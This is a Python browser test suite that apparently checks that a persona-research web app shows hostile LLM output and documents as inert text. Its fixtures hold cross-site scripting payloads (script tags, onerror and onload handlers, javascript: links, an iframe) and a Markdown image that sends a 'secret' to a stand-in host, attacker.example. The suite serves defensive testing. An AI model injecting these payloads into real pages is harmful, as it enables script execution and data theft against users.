"""Hostile model output and hostile documents are shown inert in the browser (OWASP LLM05).

A scripted model answers every question with script tags, ``onerror`` images,
Markdown images pointing at a remote host and ``javascript:`` links; a
document and a hand-edited persona carry the same payloads. The page is driven
through every screen that shows such text, then we check that nothing ran (no
dialog, no console marker, no global set), that the DOM holds no active
markup, and that no request left 127.0.0.1.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from persona.config import Settings
from persona.generate import generate_personas
from persona.knowledge import add_documents
from persona.llm import ScriptedChatModel
from persona.personas import edit_persona
from persona.segmentation import run_segmentation
from persona.services import Services
from tests.ui.conftest import Recorder, serve
from tests.ui.helpers import choose, click_tab, draft_reply, shoot, type_into, wait_for_text

pytestmark = [pytest.mark.browser, pytest.mark.slow]

MARKER = "PWNED-7f3a"
ATTACKER = "attacker.example"
HOSTILE_LINES = [
    f"<script>console.log('{MARKER}'); window.__pwned = 1</script>",
    f"<img src=x onerror=\"console.log('{MARKER}'); window.__pwned = 1\">",
    f"![chart](https://{ATTACKER}/collect?q=secret)",
    f"[see the offer](javascript:console.log('{MARKER}'))",
    f"<a href=\"javascript:alert('{MARKER}')\">click</a>",
    f'<iframe src="https://{ATTACKER}/frame"></iframe>',
    f"<svg onload=\"alert('{MARKER}')\"></svg>",
    f"Read more at https://{ATTACKER}/page and <b>bold</b> **stars**",
]
HOSTILE = "\n".join(HOSTILE_LINES)


@pytest.fixture(scope="module")
def hostile_services(tmp_path_factory: pytest.TempPathFactory) -> Services:
    """A workspace with segments, a hostile document, two personas (one edited to be hostile)."""
    root = tmp_path_factory.mktemp("hostile")
    # The model writer: these tests are about hostile *model* text reaching the page.
    services = Services(
        Settings(home=root / "ws", llm_provider="fake", embeddings="hash", persona_writer="model")
    )
    sample = Path(__file__).resolve().parents[2] / "persona" / "sample_data"
    run_segmentation(services, sample / "customers.csv", k=2)
    document = root / "hostile-notes.md"
    document.write_text(
        "# Customer notes about returns\n\nCustomers ask about returns and refunds.\n\n"
        + HOSTILE
        + "\n",
        encoding="utf-8",
    )
    add_documents(services.store, services.settings, [document])
    services.use_model(
        ScriptedChatModel(replies=[draft_reply("Maya Lindqvist"), draft_reply("Jonas Okafor")])
    )
    results = generate_personas(services)
    first = results[0].persona_id
    assert first is not None and all(r.status == "generated" for r in results)
    edit_persona(services, first, "name", f"<img src=x onerror=alert('{MARKER}')>")
    edit_persona(services, first, "background", HOSTILE_LINES[0] + " " + HOSTILE_LINES[2])
    edit_persona(services, first, "goals", HOSTILE)
    # From here on the model only says hostile things.
    services.use_model(ScriptedChatModel(default_reply=HOSTILE))
    return services


@pytest.fixture(scope="module")
def app_url(hostile_services: Services) -> Iterator[str]:
    with serve(hostile_services) as url:
        yield url


def _assert_inert(page: Any, recorder: Recorder) -> None:
    """Nothing ran, nothing active is in the DOM, nothing left the machine."""
    assert recorder.dialogs == []
    assert not [line for line in recorder.console if MARKER in line]
    assert recorder.page_errors == []
    assert page.evaluate("() => window.__pwned === undefined")
    active = page.evaluate(
        """() => {
            const bad = [];
            for (const el of document.querySelectorAll('img, iframe, svg, script, a')) {
              const src = el.getAttribute('src') || el.getAttribute('href') || '';
              if (el.tagName === 'SCRIPT' && el.textContent.includes('PWNED')) bad.push('script');
              if (/^(https?:)?\\/\\/|^javascript:/i.test(src) && !src.includes('127.0.0.1'))
                bad.push(el.tagName + ' ' + src);
              for (const attr of el.getAttributeNames())
                if (attr.startsWith('on') && (el.getAttribute(attr) || '').includes('PWNED'))
                  bad.push(el.tagName + ' ' + attr);
            }
            return bad;
        }"""
    )
    assert active == []
    assert recorder.outbound() == []


def test_hostile_text_is_inert_on_every_screen(
    app_url: str, open_page: Callable[[str], tuple[Any, Recorder]], artifacts: Path
) -> None:
    page, recorder = open_page(app_url)

    # Documents: search results quote the hostile chunk, escaped.
    click_tab(page, "documents")
    wait_for_text(page, "docs-table", "hostile-notes.md")
    type_into(page, "docs-query", "returns and refunds")
    page.locator("#docs-search").click()
    results = wait_for_text(page, "docs-results", "hostile-notes.md")
    assert "console.log" in results  # shown as text, not run
    shoot(page, artifacts, "safety-documents")

    # Personas: the hand-edited persona with a hostile name, background and goals.
    click_tab(page, "personas")
    choose(page, "personas-pick", "onerror")
    card = wait_for_text(page, "personas-card", "synthetic persona")
    assert "<script>" in card and "window.__pwned" in card  # visible as text
    shoot(page, artifacts, "safety-persona")

    # Interview: the scripted model answers with every payload, streamed.
    click_tab(page, "interview")
    choose(page, "interview-persona", "Jonas")
    type_into(page, "interview-question", "Tell me about your last purchase.")
    page.locator("#interview-ask").click()
    wait_for_text(page, "interview-status", "Answer saved")
    chat = page.locator("#interview-chat").inner_text()
    assert "console.log" in chat and ATTACKER not in chat  # link removed, text kept
    shoot(page, artifacts, "safety-interview")
    page.locator("#interview-export").click()
    with page.expect_download() as info:
        page.locator('#interview-export-files a[download$=".md"]').click()
    exported = Path(info.value.path()).read_text(encoding="utf-8")
    assert "Synthetic research" in exported and "console.log" in exported
    assert "](http" not in exported and ATTACKER not in exported
    assert "<script" not in exported.replace("\\<script", "")  # escaped, not raw

    # Panel: every persona answers with the payloads; the matrix shows them side by side.
    click_tab(page, "panel")
    type_into(page, "panel-question", "What would make you switch to another shop?")
    page.locator("#panel-ask").click()
    matrix = wait_for_text(page, "panel-matrix", "switch to another shop")
    assert matrix.count("console.log") >= 2
    shoot(page, artifacts, "safety-panel")

    # Insight brief: the model's synthesis never validates, so answers are quoted.
    page.locator("#insights-compile").click()
    preview = wait_for_text(page, "insights-preview", "Synthetic research")
    assert "<script>" in preview  # quoted as text
    page.locator('#insights-files a[download="insights-1.html"]').wait_for()
    shoot(page, artifacts, "safety-insights")

    _assert_inert(page, recorder)


def test_errors_show_the_product_message_without_server_paths(
    app_url: str,
    open_page: Callable[[str], tuple[Any, Recorder]],
    artifacts: Path,
    tmp_path: Path,
) -> None:
    page, recorder = open_page(app_url)
    click_tab(page, "documents")
    empty = tmp_path / f"notes <img src=x onerror=alert('{MARKER}')>.txt"
    empty.write_text("", encoding="utf-8")
    page.locator("#docs-files input[type=file]").set_input_files(str(empty))
    page.locator("#docs-add").click()
    toast = page.locator(".toast-body").filter(has_text="the file is empty")
    toast.first.wait_for()
    text = toast.first.inner_text()
    # The file name (Gradio's upload drops the angle brackets), shown as text.
    assert "onerror=alert" in text
    assert "/tmp" not in text and "gradio" not in text.lower() and "Traceback" not in text
    shoot(page, artifacts, "safety-error")
    _assert_inert(page, recorder)


def test_project_selector_asks_before_creating_and_switches_projects(
    app_url: str, open_page: Callable[[str], tuple[Any, Recorder]], hostile_services: Services
) -> None:
    page, recorder = open_page(app_url)
    wait_for_text(page, "data-summary", r"segments")
    box = page.locator("#project input")
    # A new name asks first; cancelling creates nothing and stays in the project.
    box.fill("reserch-2027")
    box.press("Enter")
    wait_for_text(page, "project-confirm", r"no project .*reserch-2027.* yet")
    page.locator("#project-cancel").click()
    page.locator("#project-confirm").wait_for(state="hidden")
    assert "reserch-2027" not in hostile_services.store.projects()
    assert box.input_value() == "default"
    box.fill("research-2027")
    box.press("Enter")
    wait_for_text(page, "project-confirm", r"research-2027")
    page.locator("#project-create").click()
    wait_for_text(page, "data-summary", r"No segmentation in this project yet")
    click_tab(page, "personas")
    # The default project's persona card clears once the new project's (empty) list arrives.
    page.wait_for_function("() => document.querySelector('#personas-card').innerText.trim() === ''")
    assert "research-2027" in hostile_services.store.projects()
    box.fill("default")
    box.press("Enter")
    click_tab(page, "data")
    wait_for_text(page, "data-summary", r"2 segments")
    assert recorder.page_errors == []


def test_guide_runs_streamed_and_the_session_resumes(
    app_url: str, open_page: Callable[[str], tuple[Any, Recorder]], artifacts: Path
) -> None:
    page, recorder = open_page(app_url)
    click_tab(page, "interview")
    choose(page, "interview-persona", "Jonas")
    page.locator("#interview-new").click()
    wait_for_text(page, "interview-status", r"Interview #\d+ started")
    page.locator("#interview-run-guide").click()
    status = wait_for_text(page, "interview-status", r"Guide finished: \d+ new answer")
    answered = int(re.search(r"(\d+) new answer", status).group(1))  # type: ignore[union-attr]
    assert answered >= 5
    label = page.locator("#interview-session input").input_value()
    assert f"{answered} answer(s)" in label

    # A fresh page (another day): pick the persona and the saved interview again.
    page.reload()
    page.wait_for_selector("#project")
    click_tab(page, "interview")
    choose(page, "interview-persona", "Jonas")
    choose(page, "interview-session", label.split(" · ")[0])
    wait_for_text(page, "interview-status", r"reopened")
    chat = page.locator("#interview-chat").inner_text()
    assert chat.count("console.log") >= answered
    shoot(page, artifacts, "safety-guide-resumed")
    _assert_inert(page, recorder)


def test_edit_a_persona_field_makes_a_new_version(
    app_url: str, open_page: Callable[[str], tuple[Any, Recorder]]
) -> None:
    page, _recorder = open_page(app_url)
    click_tab(page, "personas")
    choose(page, "personas-pick", "Jonas")
    wait_for_text(page, "personas-card", "Jonas Okafor")
    before = page.locator("#personas-version input").input_value()
    page.get_by_text("Edit a field (saved as a new version)").click()
    choose(page, "personas-field", "hobbies", exact=True)
    # The box fills with the field's current text first; type after that.
    page.wait_for_function(
        "() => document.querySelector('#personas-value textarea').value === 'Hiking'"
    )
    type_into(page, "personas-value", "Trail running\nBird watching")
    page.locator("#personas-save").click()
    card = wait_for_text(page, "personas-card", "Bird watching")
    assert "(edited)" in card
    after = page.locator("#personas-version input").input_value()
    assert after != before and "edited" in after


def test_delete_a_document_after_confirming(
    tmp_path: Path, open_page: Callable[[str], tuple[Any, Recorder]]
) -> None:
    services = Services(Settings(home=tmp_path / "ws", llm_provider="fake", embeddings="hash"))
    notes = tmp_path / "notes.md"
    notes.write_text("# Notes\n\nCustomers like quick delivery.\n", encoding="utf-8")
    add_documents(services.store, services.settings, [notes])
    with serve(services) as url:
        page, _recorder = open_page(url)
        click_tab(page, "documents")
        wait_for_text(page, "docs-table", "notes.md")
        choose(page, "docs-pick", "notes.md")
        page.locator("#docs-delete").click()
        page.locator("#docs-cancel").click()  # changing one's mind keeps it
        assert "notes.md" in page.locator("#docs-table").inner_text()
        page.locator("#docs-delete").click()
        page.locator("#docs-confirm").click()
        wait_for_text(page, "docs-report", r"Deleted document \d+")
        assert "notes.md" not in page.locator("#docs-table").inner_text()
